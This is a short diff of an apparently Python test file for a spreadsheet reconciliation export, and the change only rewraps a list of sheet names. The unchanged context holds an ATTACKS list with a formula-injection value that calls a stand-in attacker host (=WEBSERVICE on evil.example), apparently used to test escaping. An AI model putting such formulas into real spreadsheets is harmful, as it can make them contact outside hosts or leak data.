@@ -42,7 +42,8 @@ ATTACKS = [
     "=WEBSERVICE(\"http://evil.example\")", "0012", "1E5", "NA",
 ]  # fmt: skip
 SHEETS = [
-    "Lead", "Tie-out", "Findings", "Reconciliations", "Bank to book", "Movements", "Suspense", "Cut-off", "Changed since", "Certification", "Ageing", "Ageing invoice date", "Exceptions", "Proposals",
+    "Lead", "Tie-out", "Findings", "Reconciliations", "Bank to book", "Movements", "Suspense", "Cut-off", "Changed since",
+    "Certification", "Ageing", "Ageing invoice date", "Exceptions", "Proposals",
     "Allocations", "Breaks", "Decisions", "Sources", "Rejects",
 ]  # fmt: skip
 NS = {
